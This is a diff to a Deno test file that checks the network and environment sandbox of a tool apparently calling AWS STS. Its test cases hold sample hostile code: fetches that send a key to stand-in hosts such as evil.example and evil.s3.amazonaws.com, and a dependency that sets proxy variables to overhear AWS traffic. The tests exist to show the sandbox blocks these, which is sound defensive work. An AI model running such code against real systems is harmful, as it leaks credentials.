@@ -1,12 +1,8 @@
 // The sandbox: what the shipped flags allow, what they stop, and that they do not grow.
 import assert from "node:assert/strict";
 import { join } from "node:path";
-import {
-  baseEnvironment,
-  ROOT,
-  run,
-  shippedFlags,
-} from "../support/command.ts";
+import { ROOT, shippedFlags, underShippedFlags } from "../support/command.ts";
+import { DeafProxy } from "../support/deaf_proxy.ts";
 import { Scenario } from "../support/scenario.ts";
 
 Deno.test("the shipped flags are exactly these; whoever adds one has to say so here and in the README", async () => {
@@ -30,14 +26,6 @@ Deno.test("the shipped flags are exactly these; whoever adds one has to say so h
   ]);
   assert.equal(flags.get("--allow-read"), "");
   assert.equal(flags.get("--allow-write"), "");
-  assert.deepEqual(flags.get("--allow-net")?.split(","), [
-    "*.amazonaws.com",
-    "*.amazonaws.com.cn",
-    "*.api.aws",
-    "localhost",
-    "127.0.0.1",
-    "[::1]",
-  ]);
   assert.equal(flags.get("--ignore-env"), "");
   const readme = await Deno.readTextFile(new URL("README.md", ROOT));
   for (const variable of variables) {
@@ -53,33 +41,16 @@ Deno.test("the shipped flags are exactly these; whoever adds one has to say so h
   );
 });
 
-/** Runs `code` as a dependency of the program would run: under the shipped flags. */
-async function underShippedFlags(
-  code: string,
-  env: Readonly<Record<string, string>> = {},
-) {
-  const directory = await Deno.makeTempDir({ prefix: "updsts-evil-" });
-  try {
-    const module = join(directory, "dependency.ts");
-    await Deno.writeTextFile(module, code);
-    return await run(Deno.execPath(), [
-      "run",
-      ...shippedFlags(),
-      module,
-    ], {
-      ...await baseEnvironment(),
-      ...env,
-    });
-  } finally {
-    await Deno.remove(directory, { recursive: true });
-  }
-}
-
 const STOPPED: readonly { readonly name: string; readonly code: string }[] = [
   {
     name: "fetch from another host",
     code: `await fetch("https://evil.example/?" + "key");`,
   },
+  ...["evil.s3.amazonaws.com", "x.execute-api.us-east-1.amazonaws.com"]
+    .map((host) => ({
+      name: `fetch from ${host}`,
+      code: `await fetch("https://${host}/?" + "key");`,
+    })),
   {
     name: "connect to another address",
     code: `await Deno.connect({ hostname: "192.0.2.1", port: 443 });`,
@@ -181,25 +152,46 @@ Deno.test("the program asks for nothing that the sandbox denies", async () => {
   );
 });
 
+Deno.test("of all hosts of AWS, a dependency reaches those of STS only", async () => {
+  await using proxy = new DeafProxy();
+  const hosts = [
+    "evil.s3.amazonaws.com",
+    "x.execute-api.us-east-1.amazonaws.com",
+    "sts.us-east-1.amazonaws.com",
+  ];
+  const code = `for (const host of ${JSON.stringify(hosts)}) {
+    await fetch(\`https://\${host}/\`).catch(({ name }) => console.log(host, name));
+  }`;
+  const { stdout } = await underShippedFlags(code, { HTTPS_PROXY: proxy.url });
+  assert.equal(
+    stdout,
+    [
+      "evil.s3.amazonaws.com NotCapable",
+      "x.execute-api.us-east-1.amazonaws.com NotCapable",
+      "sts.us-east-1.amazonaws.com TypeError",
+      "",
+    ].join("\n"),
+  );
+  assert.deepEqual(proxy.heard, [
+    "CONNECT sts.us-east-1.amazonaws.com:443 HTTP/1.1",
+  ]);
+});
+
 Deno.test("a dependency cannot name a proxy of its own and hear what goes to AWS", async () => {
   // Once it could: who may read a variable may set it, and proxies need no permission.
-  let heard = 0;
-  await using listener = Deno.serve({
-    hostname: "127.0.0.2",
-    port: 0,
-    onListen: () => {},
-  }, () => {
-    heard++;
-    return new Response();
-  });
-  const sealed = new URL("src/adapters/proxy_variables.ts", ROOT).href;
-  const code = `import ${JSON.stringify(sealed)};
+  await using proxy = new DeafProxy();
+  const code = `
     for (const name of ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"]) {
-      try { Deno.env.set(name, "http://127.0.0.2:${listener.addr.port}"); } catch { /* as good */ }
+      try { Deno.env.set(name, "${proxy.url}"); } catch { /* as good */ }
     }
     try { await fetch("http://127.0.0.1:9999/?key", { client: Deno.createHttpClient({}) }); } catch { /* nobody there */ }`;
+  // Where nothing is given up, it is heard: so silence below means something.
   await underShippedFlags(code);
-  assert.equal(heard, 0);
+  assert.deepEqual(proxy.heard, ["GET http://127.0.0.1:9999/?key HTTP/1.1"]);
+  proxy.heard.length = 0;
+  const sealed = new URL("src/adapters/proxy_variables.ts", ROOT).href;
+  await underShippedFlags(`import ${JSON.stringify(sealed)};${code}`);
+  assert.deepEqual(proxy.heard, []);
   const main = await Deno.readTextFile(new URL("main.ts", ROOT));
   const [, first] = /^import [^]*?"([^"]+)"/m.exec(main) ?? [];
   assert.equal(
